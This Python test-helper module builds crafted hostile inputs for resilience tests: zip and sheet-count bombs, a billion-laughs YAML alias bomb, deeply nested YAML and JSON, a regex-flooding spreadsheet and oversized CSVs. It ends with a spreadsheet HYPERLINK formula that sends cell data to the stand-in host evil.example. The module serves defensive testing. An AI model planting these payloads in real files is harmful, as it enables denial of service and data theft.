"""Builders of crafted client files (issue 27): the attacks, at a size the caller picks.

The tests build small but representative versions; ``benchmarks``-style timing
of the full-size versions uses the same builders with larger sizes.
"""

from __future__ import annotations

import time
import zipfile
from contextlib import contextmanager
from pathlib import Path

import yaml


@contextmanager
def within(seconds: float):
    """Assert that the block takes less than ``seconds`` (wall clock)."""
    started = time.perf_counter()
    yield
    took = time.perf_counter() - started
    assert took < seconds, f"took {took:.1f} s (limit {seconds} s)"


SSML_HEAD = (
    '<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">\n'
)
POSTS_HEADER = "platform,post_id,published_at,format,text,reactions\n"


def client(folder: Path, name: str = "Acme", posts: int = 3, **profile) -> Path:
    """A minimal valid client folder: client.yaml and a canonical posts export."""
    folder.mkdir(parents=True, exist_ok=True)
    text = yaml.safe_dump({"name": name, **profile}, allow_unicode=True)
    (folder / "client.yaml").write_text(text, encoding="utf-8")
    (folder / "exports").mkdir(exist_ok=True)
    rows = "".join(
        f"instagram,{folder.name}-{i},2026-06-{1 + i % 28:02d}T10:00:00+00:00,image,hi,{i}\n"
        for i in range(posts)
    )
    (folder / "exports" / "posts.csv").write_text(POSTS_HEADER + rows, encoding="utf-8")
    return folder


def row_flood(path: Path, rows: int = 20_000) -> Path:
    """SpreadsheetML whose head is ``rows`` unclosed ``<Row>`` tags (quadratic for the old regex)."""
    path.write_text(SSML_HEAD + '<Worksheet ss:Name="Key Metrics"><Table>' + "<Row>" * rows)
    return path


def huge_index(path: Path, index: int = 2_000_000_000) -> Path:
    """A Facebook-Insights-like .xls whose header cell sits at column ``ss:Index``."""
    cells = "".join(
        f'<Cell><Data ss:Type="String">{h}</Data></Cell>' for h in ("Post ID", "Permalink")
    )
    cells += f'<Cell ss:Index="{index}"><Data ss:Type="String">Posted</Data></Cell>'
    path.write_text(
        SSML_HEAD + '<Worksheet ss:Name="Key Metrics"><Table>'
        f"<Row>{cells}</Row></Table></Worksheet></Workbook>\n"
    )
    return path


_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
    'application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>{overrides}</Types>'
)
_SHEET_CT = (
    '<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
    'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/'
    'workbook.xml"/></Relationships>'
)
_NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _sheet_xml(rows: int, text: str = "Post ID", dimension: str = "", first: int = 1) -> str:
    body = "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{text}</t></is></c></row>'
        for r in range(first, first + rows)
    )
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0"?><worksheet xmlns="{_NS_MAIN}">{dim}<sheetData>{body}</sheetData>'
        "</worksheet>"
    )


def xlsx(path: Path, sheets: int = 1, rows: int = 1, dimension: str = "", first: int = 1) -> Path:
    """A raw .xlsx (written with zipfile: fast even with thousands of sheets).

    Each sheet holds ``rows`` identical rows: many rows make a small file of a
    large uncompressed size (a zip bomb); many sheets, a sheet-count bomb;
    ``dimension`` declares a size (``A1:XFD1048576``), ``first`` the first row number.
    """
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            _CT.format(overrides="".join(_SHEET_CT.format(i=i) for i in range(1, sheets + 1))),
        )
        z.writestr("_rels/.rels", _RELS)
        names = "".join(
            f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 1)
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook xmlns="{_NS_MAIN}" xmlns:r="{_NS_REL}">'
            f"<sheets>{names}</sheets></workbook>",
        )
        rels = "".join(
            f'<Relationship Id="rId{i}" Type="{_NS_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, sheets + 1)
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rels}</Relationships>',
        )
        sheet = _sheet_xml(rows, dimension=dimension, first=first)
        for i in range(1, sheets + 1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", sheet)
    return path


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """A billion-laughs client.yaml: ``name`` holds ``width ** (levels - 1)`` values, in ~400 bytes.

    The anchors sit inside the value of an allowed key, so the profile check
    reaches the value (an error message that printed it whole ran out of memory).
    """
    items = ['&a0 ["lol"]']
    for i in range(1, levels):
        items.append(f"&a{i} [{', '.join([f'*a{i - 1}'] * width)}]")
    return "name: [" + ", ".join(items) + "]\n"


def deep_yaml(depth: int = 100_000) -> str:
    """client.yaml nested ``depth`` levels deep."""
    return "name: " + "[" * depth + "]" * depth + "\n"


def wide_csv(path: Path, columns: int = 1_000_000) -> Path:
    """A canonical posts CSV whose header has ``columns`` columns."""
    extra = ",".join(f"c{i}" for i in range(columns - 6))
    path.write_text(
        POSTS_HEADER.rstrip("\n") + "," + extra + "\ninstagram,1,2026-06-01,image,hi,1\n"
    )
    return path


def deep_json(path: Path, depth: int = 100_000) -> Path:
    """A YouTube comment-threads JSON nested ``depth`` levels deep."""
    path.write_text('{"kind": "youtube#commentThread", "items": ' + "[" * depth + "]" * depth + "}")
    return path


FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A3,"Open report")'
